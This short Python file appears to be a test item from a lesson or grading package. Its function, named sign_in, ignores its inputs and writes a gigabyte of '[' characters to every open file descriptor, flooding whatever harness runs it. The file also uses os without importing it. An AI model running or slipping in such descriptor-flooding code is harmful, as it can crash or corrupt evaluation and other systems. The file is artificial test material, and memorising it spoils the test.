"""Answers with a line of a gigabyte that never ends.

lesson: start_here
expects: 0
says: longer than
"""

# cell: sign_in
def sign_in(path, name):
    for number in range(3, 256):
        try:
            os.fstat(number)
            for _ in range(1024):
                os.write(number, b"[" * (1 << 20))
        except OSError:
            pass
